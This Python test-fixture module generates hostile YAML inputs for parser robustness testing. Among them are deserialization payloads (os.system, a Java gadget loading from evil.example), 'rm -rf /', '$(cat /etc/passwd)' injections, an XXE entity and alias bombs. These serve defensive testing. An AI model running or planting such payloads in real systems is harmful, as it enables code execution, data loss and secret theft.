"""YAML that nobody means well by: each case is the bytes of a file, by a name that says what is odd in it.

The specification's own examples stand in `yaml_1_2.yml`; what comes of every case stands in `outcomes.txt`.
"""

import codecs
import unicodedata
from collections.abc import Iterator

import yaml
from projects import ROOT

HERE = ROOT / "tests/hostile"
SIGNS = {
    "NUL": "\0", "bell": "\x07", "backspace": "\b", "vertical tab": "\v", "form feed": "\f", "escape": "\x1b",
    "delete": "\x7f", "next line": "\x85", "C1 control": "\x9b", "no-break space": "\xa0",
    "soft hyphen": "\xad", "combining accents": "e" + "\u0301" * 50, "Arabic letter mark": "\u061c",
    "Ogham space": "\u1680", "zero-width space": "\u200b", "zero-width joiner": "\u200d",
    "right-to-left mark": "\u200f", "line separator": "\u2028", "paragraph separator": "\u2029",
    "right-to-left override": "\u202e", "left-to-right embedding": "\u202a", "word joiner": "\u2060",
    "right-to-left isolate": "\u2067", "pop directional isolate": "\u2069", "ideographic space": "\u3000",
    "Hangul filler": "\u3164", "variation selector": "\ufe0f", "byte order mark": "\ufeff",
    "interlinear annotation": "\ufff9", "replacement character": "\ufffd", "noncharacter FFFE": "\ufffe",
    "noncharacter FFFF": "\uffff", "noncharacter FDD0": "\ufdd0", "noncharacter 1FFFE": "\U0001fffe",
    "private use": "\ue000", "tag characters": "\U000e0041\U000e007f", "last code point": "\U0010ffff",
    "ship": "🚢",
}  # fmt: skip
"""Signs that are seen as others, or not at all, or that break what reads them."""
PLACES = {
    "in a text": "name: A{}B\n",
    "in double quotes": 'name: "A{}B"\n',
    "below a bar": "name: |\n  A{}B\n",
    "in a field's name": "na{}me: AB\n",
    "in a note": "# A{}B\nname: AB\n",
}
SCALARS = """
0o17 0O17 0x1F 0b101 017 -0 +0 0. .5 5. +.5e-3 1e5 1E400 1e-400 -1e99 1_000 1,000 1'000 1__0 _1 .inf -.INF
+.Inf .nan .NaN NaN Infinity inf 12:30 12:30:45 190:20:30.15 2001-12-14 2001-12-14t21:59:43.10-05:00
2001-02-30 0000-00-00 y n Y N yes No ON off true True TRUE tRUE false null Null NULL nULL ~ ~~ ... .. . = <<
<<: - -- --- ---x ? ?x :x x: :: ! !! !x !!str !!python/object/apply:os.system !!python/name:os.system
!<tag:yaml.org,2002:str> & &a *a * % %YAML @a `a` | > |x >- |9 |0 |-+ [ ] { } [] {} [a {a [a] {a:b} {a:} [,]
{,} [a,,b] , ,a a,b #a a#b a\\b "\\x41" "\\u0041" "\\U00000041" "\\ud800" "\\udc00" "\\ud83d\\udea2"
"\\U0010ffff" "\\U00110000" "\\Uffffffff" "\\x4" "\\q" "\\0" "\\x00" "\\u0000" "\\u202e" "\\ufeff" "\\uffff"
"\\x85" "\\N" "\\_" "\\L" "\\P" "\\/" "\\ " "a '' 'a "" '' 'it''s' 'it's' "a"b 'a'b "a""b" ０１２ ١٢٣ 12３ ½
１０００ −5 1–2 ∞ 𝟏𝟐 0xFFFFFFFFFFFFFFFFFF 9007199254740993 999999999999999999 9999999999999999999 0.1e1e1
{{config}} {{{}}} {%raw%} ${HOME} $(id) `id` ../../etc/passwd file:///etc/passwd C:\\CON <script> &lt; &#60;
%2e%2e
""".split()
"""What stands after `value: `. Most look like a number, a date, a sign of YAML's or a command."""
TEXTS = {
    "nothing but a space": " ",
    "nothing but a line end": "\n",
    "nothing but a note": "# a\n",
    "a text alone": "Leeds\n",
    "a list alone": "- Leeds\n",
    "null alone": "null\n",
    "a number alone": "12\n",
    "the end of a document alone": "...\n",
    "two documents": "name: A\n---\nname: B\n",
    "a document after its end": "name: A\n...\nname: B\n",
    "an empty second document": "name: A\n---\n",
    "a document that is opened and closed": "---\nname: A\n...\n",
    "a directive": "%YAML 1.2\n---\nname: A\n",
    "a directive of another version": "%YAML 3.0\n---\nname: A\n",
    "a directive twice": "%YAML 1.1\n%YAML 1.1\n---\nname: A\n",
    "a directive of its own": "%FOO bar\n---\nname: A\n",
    "a tag directive": "%TAG ! tag:evil.example,2000:\n---\nname: !x A\n",
    "a tag directive without an end": "%TAG ! \n---\nname: A\n",
    "a Python object": "!!python/object/apply:os.system\nargs: ['touch /tmp/hostile']\n",
    "a Python object as a value": "name: !!python/object/new:type {args: [x, [], {}]}\n",
    "a Python name": "name: !!python/name:builtins.eval\n",
    "a Python module": "name: !!python/module:os\n",
    "a Ruby object": "--- !ruby/object:Gem::Installer\ni: x\n",
    "a Java object": "!!javax.script.ScriptEngineManager [!!java.net.URL ['http://evil.example']]\n",
    "a set": "name: !!set {a, b}\n",
    "an ordered mapping": "name: !!omap [a: 1, b: 2]\n",
    "binary": "name: !!binary R0lGODlhDAAMAIQAAP==\n",
    "a merge": "base: {a: 1}\nname: A\n<<: {b: 2}\n",
    "a merge with an alias": "base: &b {a: 1}\nplace:\n  <<: *b\n",
    "a merge key twice": "<<: {a: 1}\n<<: {b: 2}\n",
    "a recursive alias": "&a name: *a\n",
    "a list that holds itself": "name: &a [*a]\n",
    "a group that holds itself": "&a\nname: *a\n",
    "an alias of nothing": "name: *nothing\n",
    "an anchor used twice": "a: &x 1\nb: &x 2\nname: *x\n",
    "an alias as a key": "a: &x 1\n*x : 2\n",
    "a key twice": "name: A\nname: B\n",
    "a key twice, once in quotes": 'name: A\n"name": B\n',
    "a key twice, once with an escape": 'name: A\n"\\x6eame": B\n',
    "a key twice, once as a question": "name: A\n? name\n: B\n",
    "a key twice in brackets": "name: {a: 1, a: 2}\n",
    "a key twice, composed and not": "caf\u00e9: 1\ncafe\u0301: 2\n",
    "a key twice, once in full width": "name: A\nｎａｍｅ: B\n",
    "a key twice, once with a Cyrillic letter": "name: A\nn\u0430me: B\n",
    "a key twice, once with a space after it": 'name: A\n"name ": B\n',
    "a key that is a number": "1: A\n1.0: B\n",
    "a key that is null": "~: A\n: B\n",
    "a key that is true": "true: A\nname: B\n",
    "a key that is a list": "[a, b]: A\n",
    "a key that is a group": "{a: b}: A\n",
    "a key that is empty": "'': A\n",
    "a key of another object": "__class__: A\n__init__: B\nmodel_config: C\n",
    "a key of a prototype": "__proto__: {polluted: true}\nconstructor: A\n",
    "a key with a line end": '"na\\nme": A\n',
    "a key below a question mark": "? |\n  name\n: A\n",
    "a key without a value": "name\n",
    "a question mark alone": "?\n",
    "a colon alone": ":\n",
    "a hyphen alone": "-\n",
    "a tab before a key": "\tname: A\n",
    "a tab after a key": "name:\tA\n",
    "a tab in front of a nested key": "a:\n\tname: A\n",
    "a tab within a text": "name: A\tB\n",
    "a tab after a text": "name: A\t\n",
    "a tab in brackets": "name: [\tA,\tB\t]\n",
    "a tab in an indent of a text": "name: |\n \tA\n",
    "an indent that shrinks": "a:\n    b: 1\n  c: 2\n",
    "an indent of an item that grows": "a:\n  - 1\n    - 2\n",
    "a text with a wrong indent sign": "name: |3\n  A\n",
    "a text that keeps its ends": "name: |+\n  A\n\n\n",
    "a text of empty lines": "name: |\n\n\n",
    "folded text": "name: >\n  A\n   B\n\n  C\n",
    "Windows line ends": "name: A\r\nsummary: B\r\n",
    "old Mac line ends": "name: A\rsummary: B\r",
    "mixed line ends": "name: A\r\nsummary: B\rabout: C\nother: D",
    "a line end of two kinds": "name: A\n\rsummary: B\n\r",
    "a line separator between fields": "name: A\u2028summary: B\n",
    "next line between fields": "name: A\x85summary: B\n",
    "a field behind a line separator in a note": "name: A\n# B\u2028summary: C\n",
    "a note that is turned round": "name: A # \u202e;B :yrammus\n",
    "a directive after a document": "name: A\n...\n\n# B\n%TAG ! b\n---\n",
    "a line that begins with % in quotes": 'name: "A\n %B"\n',
    "a text without a line end": "name: A",
    "a text that ends in spaces": "name: A     \n",
    "a text that goes on below": "name: A\n B\n  C\n",
    "a quote that is never closed": 'name: "A\n',
    "a quote that is closed below": 'name: "A\n\n  B"\n',
    "a quote with a document in it": 'name: "A\n---\nB"\n',
    "a bracket that is never closed": "name: [A\n",
    "a bracket closed by another": "name: [A}\n",
    "a bracket closed twice": "name: [A]]\n",
    "brackets over lines": "name: [\nA,\nB\n]\n",
    "a group in brackets without a comma": "name: {a: 1 b: 2}\n",
    "a pair in brackets": "name: [a: 1, b: 2]\n",
    "a colon in brackets": 'name: {"a":1}\n',
    "a value after a value": 'name: "A" B\n',
    "a note that is none": "name: A#B\n",
    "a note after a quote": 'name: "A"#B\n',
    "a list in line with its field": "name:\n- A\n- B\n",
    "a list on the line of its field": "name: - A\n",
    "an item in an item": "name:\n- - - A\n",
    "a group in an item": "- name: A\n  name: B\n",
    "text before a field": "Hello\nname: A\n",
    "text after a field": "name: A\nHello\n",
    "Jinja": "name: {{ config }}\n",
    "a Jinja statement": "name: {% raw %}\n",
    "JSON": '{"name": "A", "list": [1, 2.5, true, null], "é": "\\u00e9"}\n',
    "JSON with a trailing comma": '{"name": "A",}\n',
    "JSON with a note": '{"name": "A" /* b */}\n',
    "a note between a field and its value": "name:\n  # B\n  A\n",
    "a note less indented than a list": "name:\n  - A\n# B\n  - C\n",
    "a note that follows the end of a document": "name: A\n... # B\n",
    "a document that begins on its first line": "--- name: A\n",
    "a document that is a text below a bar": "--- |\n  name: A\n",
    "a document that is a text in quotes": '--- "name: A"\n',
    "a mark of byte order within": "name: A\n\ufeffsummary: B\n",
    "a mark of byte order between documents": "name: A\n---\n\ufeffname: B\n",
    "a directive after a field": "name: A\n%YAML 1.2\nsummary: B\n",
    "a directive without a document": "%YAML 1.2\n",
    "a field's name of 1,100 signs": f"{'a' * 1100}: A\n",
    "a field's name on two lines": "na\n me: A\n",
    "a field's name on two lines in brackets": "{na\n me: A}\n",
    "a field's name in quotes with a colon": "'name: A': B\n",
    "a field's name with a tag": "!!str name: A\n",
    "a field's name with an anchor": "&a name: A\n&b summary : B\n",
    "a field's name that is a text below a bar": "? |-\n  name\n: A\n? >-\n  summary\n: B\n",
    "an anchor with a colon in its name": "name: &a:b A\nsummary: *a:b\n",
    "an anchor before an item": "name:\n  &a - A\n",
    "an anchor of nothing": "name: &a\nsummary: *a\n",
    "an alias as a field's name without a space": "name: &a A\n*a: B\n",
    "a tag alone": "name: !\n",
    "a tag with signs that are encoded": "name: !e%21x A\n",
    "a tag in brackets that is never closed": "name: !<tag:x A\n",
    "an empty item in brackets": "name: [A, , B]\n",
    "a comma first in brackets": "name: [, A]\n",
    "a comma last in brackets": "name: [A, ]\n",
    "a field without a name in brackets": "name: {: A}\n",
    "a question in brackets": "name: [? A : B]\n",
    "a field without a value in brackets": "name: {A, B: }\n",
    "a colon that touches in brackets": "name: {a:b, c :d}\n",
    "a hyphen alone in brackets": "name: [-, - ]\n",
    "brackets that begin less indented": "name:\n  a: [\n b]\n",
    "brackets and a note": "name: [A, # B\n  C]\n",
    "a number for how far a text is indented": "name: |2-\n    A\n   B\n",
    "a number and a sign the other way round": "name: >+1\n A\n\n",
    "a number of nought for how far a text is indented": "name: |0\nA\n",
    "a bar with a note": "name: | # B\n  A\n",
    "a bar with words": "name: | A\n  B\n",
    "a text whose first empty line is indented more": "name: |\n     \n  A\n",
    "a folded text with bullets": "name: >\n\n  A\n\n   * B\n   * C\n\n  D\n",
    "a text below a bar that ends at a lower list": "name: |\n  A\n - B\n",
    "a tab after a hyphen": "name:\n  -\tA\n  -\t- B\n",
    "a tab in an empty line": "name: A\n\t\nsummary: B\n",
    "a tab before a note": "name: A\t# B\n",
    "an escape of no kind": 'name: "A\\qB"\n',
    "an escape beyond all signs": 'name: "\\U00110000"\n',
    "an escape of half a sign": 'name: "\\ud83d\\ude00 \\ud83d"\n',
    "an escape that ends too soon": 'name: "\\x4"\n',
    "an escape of a line end": 'name: "A \\\n  B \\\n\n  C"\n',
    "an escape in single quotes": "name: 'A\\nB'\n",
    "quotes that begin another line less indented": 'name:\n  a: "b\n c"\n',
    "a question mark and a hyphen in words": "name: ?A -B :C\n",
    "a colon at the end of words": "name: A:\n",
    "a list of lists of groups": "name:\n- - a: 1\n    b: 2\n  - c: 3\n",
    "a list less indented than its field": "a:\n  name:\n - A\n",
    "TOML": 'name = "A"\n[b]\nc = 1\n',
    "an INI file": "[b]\nc = 1\n",
    "XML": '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>\n<a>&b;</a>\n',
    "HTML": "<!doctype html>\n<script>alert(1)</script>\n",
    "Markdown": "# Leeds\n\n- a\n- b\n\n**c**\n",
    "a script": "#!/bin/sh\nrm -rf /\n",
    "a conflict of git": "<<<<<<< HEAD\nname: A\n=======\nname: B\n>>>>>>> other\n",
    "a diff": "--- a/x.yml\n+++ b/x.yml\n@@ -1 +1 @@\n-name: A\n+name: B\n",
    "an environment's variable": "name: ${GITHUB_TOKEN}\nsummary: $(cat /etc/passwd)\n",
    "a command for a workflow": "name: ::error::A\nsummary: ::set-output name=a::b\n",
    "escapes of a terminal in quotes": 'name: "\\e[2J\\e]0;A\\a"\n',
    "a homoglyph in an id": "name: A\nsystem: west-co\u0430st\n",
    "a path for an id": "id: ../../x\nname: A\n",
    "a path for a former id": "name: A\nformerly: [../../x, /etc/passwd, 'C:\\x', CON, ..]\n",
    "another id than the file's": "id: other\nname: A\n",
}  # fmt: skip


def examples() -> list[dict[str, str]]:
    """Return the specification's examples, with what they mean, if they mean something."""
    found: list[dict[str, str]] = yaml.safe_load((HERE / "yaml_1_2.yml").read_text("utf-8"))
    return found


def cases(scale: int = 1) -> dict[str, bytes]:
    """Return every case by its name. With a scale of 10, what is huge is as huge as its name says."""
    found = [(f"Example {e['example']} {e['title']}", e["text"].encode()) for e in examples()]
    found += [(name, text.encode()) for name, text in TEXTS.items()]
    found += [
        (f"value {scalar}", f"name: A\nvalue: {scalar}\n".encode()) for scalar in dict.fromkeys(SCALARS)
    ]
    for name, sign in SIGNS.items():
        found += [(f"{name} {place}", form.format(sign).encode()) for place, form in PLACES.items()]
    found += [*_bytes(), *_huge(scale)]
    assert len({name for name, _ in found}) == len(found)
    return dict(found)


def _bytes() -> Iterator[tuple[str, bytes]]:
    """Files that are not in UTF-8, or not quite."""
    yield "no bytes", b""
    yield "a byte order mark alone", codecs.BOM_UTF8
    yield "a byte order mark twice", codecs.BOM_UTF8 * 2 + b"name: A\n"
    yield "a byte order mark in the middle", b"name: A\n" + codecs.BOM_UTF8 + b"summary: B\n"
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "cp500", "utf-7"):
        yield f"saved as {encoding}", "name: Café\n".encode(encoding)
    for name, raw in {
        "a lone high surrogate": b"\xed\xa0\x80",
        "a pair of surrogates": b"\xed\xa0\xbd\xed\xba\xa2",
        "an overlong slash": b"\xc0\xaf",
        "an overlong NUL": b"\xc0\x80",
        "an overlong dot of three bytes": b"\xe0\x80\xae",
        "more than Unicode has": b"\xf4\x90\x80\x80",
        "five bytes": b"\xf8\x88\x80\x80\x80",
        "a byte that goes on nothing": b"\x80",
        "a sign that is cut short": b"\xe2\x82",
        "a byte that is never used": b"\xff",
    }.items():
        yield f"{name}, as bytes", b"name: A" + raw + b"B\n"
        yield f"{name}, in the name of a field", b"na" + raw + b"me: A\n"
    for form in ("NFC", "NFD", "NFKC"):
        yield f"a name in {form}", unicodedata.normalize(form, "name: Ångström ﬁle é\n").encode()


def _huge(scale: int) -> Iterator[tuple[str, bytes]]:
    """Files that take long to read, or grow while they are read; each is as huge as its name says at 10."""
    deep = 100_000
    many, much = 10_000 * scale, 98_000 * scale
    for name, opener in {
        "lists in brackets": "[", "groups in brackets": "{a: ", "lists": "- ", "questions": "? ",
        "lists and groups in brackets": "[{a: ", "empty keys": ": ", "quoted lists": '["',
    }.items():  # fmt: skip
        yield f"{deep:,} {name} deep", (opener * (deep if len(opener) < 5 else deep // 2)).encode()
    yield "400 groups deep", "".join(f"{' ' * n}a:\n" for n in range(400)).encode()
    yield "40 lists deep, closed", (b"name: " + b"[" * 40 + b"]" * 40)
    yield "100,000 closing brackets", b"name: " + b"]" * many
    bomb = ["a0: &a0 [x, x]", *(f"a{n}: &a{n} [*a{n - 1}, *a{n - 1}]" for n in range(1, 60))]
    yield "an alias bomb", "\n".join(bomb).encode()
    bomb = ["a0: &a0 {k: v}", *(f"a{n}: &a{n}\n  <<: [*a{n - 1}, *a{n - 1}]" for n in range(1, 60))]
    yield "a bomb of merges", "\n".join(bomb).encode()
    yield "100,000 anchors", b"name: [" + b"&a x, " * many + b"x]"
    yield "100,000 aliases", b"a: &a x\nname: [" + b"*a, " * many + b"*a]"
    yield "100,000 tags", b"name: [" + b"!a x, " * many + b"x]"
    yield "a text of a million signs", b"name: " + b"a" * much
    yield "a text of a million signs in quotes", b'name: "' + b"a" * much + b'"'
    yield "a text of a million lines", b"name: |\n" + b" a\n" * (much // 3)
    yield "a million empty lines", b"name: |\n" + b"\n" * much + b" a"
    yield "a million spaces", b"name: " + b" " * much + b"a"
    yield "a million tabs", b"name:" + b"\t" * much + b"a"
    yield "a million quotation marks", b"name: '" + b"'" * much
    yield "a million escapes", b'name: "' + b"\\n" * (much // 2) + b'"'
    yield "a million notes", b"name: a\n" + b"#\n" * (much // 2)
    yield "a note of a million signs", b"name: a #" + b"#" * much
    yield "a number of a million digits", b"value: " + b"9" * much
    yield "a fraction of a million digits", b"value: 0." + b"9" * much
    yield "a power of a million digits", b"value: 1e" + b"9" * much
    yield "a hexadecimal number of a million digits", b"value: 0x" + b"f" * much
    yield "a key of a million signs", b"a" * much + b": 1"
    yield "a key of a million signs in quotes", b'"' + b"a" * much + b'": 1'
    yield "a key of 1,000 signs", b"a" * 1_000 + b": 1"
    yield "100,000 keys", b"".join(b"k%d: 1\n" % n for n in range(many * 8 // 10))
    yield "100,000 keys, each twice", b"".join(b"k%d: 1\n" % (n // 2) for n in range(many * 8 // 10))
    yield "100,000 times the same key", b"a: 1\n" * many
    yield "100,000 items", b"name:\n" + b"- a\n" * many
    yield "100,000 documents", b"--- a\n" * many
    yield "100,000 empty documents", b"---\n" * many
    yield "100,000 colons", b"name: " + b"a: " * many
    yield "100,000 hyphens", b"name: " + b"- " * many
    yield "100,000 commas", b"name: [" + b"," * many + b"]"
    yield "100,000 directives", b"%A b\n" * many + b"---\nname: A"
    yield (
        "100,000 tag directives",
        b"".join(b"%%TAG !a%d! b\n" % n for n in range(many * 4 // 10)) + b"---\nname: A",
    )
    yield "500,000 question marks", b"?\n" * (much // 2)
    yield "a million combining accents", b"name: e" + "\u0301".encode() * (much // 2)
    yield "a million control characters", b"name: " + b"\x01" * much
    yield "a million curly quotes", b"name: " + "“".encode() * (much // 3)
    yield "larger than a record may be", b"name: " + b"a" * 1_000_000
